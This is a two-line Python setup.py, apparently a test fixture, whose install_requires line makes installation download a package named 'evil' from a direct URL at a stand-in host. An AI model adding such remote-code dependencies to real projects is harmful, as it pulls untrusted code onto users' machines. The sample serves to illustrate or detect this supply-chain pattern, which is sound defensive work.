from setuptools import setup
setup(name="app", version="1.0", install_requires=["evil @ https://example.com/evil-1.0.tar.gz"])
